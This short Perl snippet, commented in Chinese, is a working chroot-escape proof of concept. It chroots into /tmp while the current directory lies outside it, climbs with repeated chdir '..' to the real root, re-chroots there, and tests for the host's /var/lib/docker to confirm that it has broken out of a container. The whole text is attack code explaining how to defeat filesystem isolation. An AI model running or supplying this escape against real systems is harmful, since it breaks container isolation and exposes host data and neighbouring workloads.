chroot "/tmp" or die "$!\n";  # 根换成了 /tmp，而当前目录在它外面
chdir ".." for 1 .. 99;       # 在外面往上走，没有根拦着，一直走到顶
chroot "." or die "$!\n";     # 把顶上当作根
print -d "/var/lib/docker" ? "逃出来了，看见了主机的 /var/lib/docker\n" : "逃不出来\n";
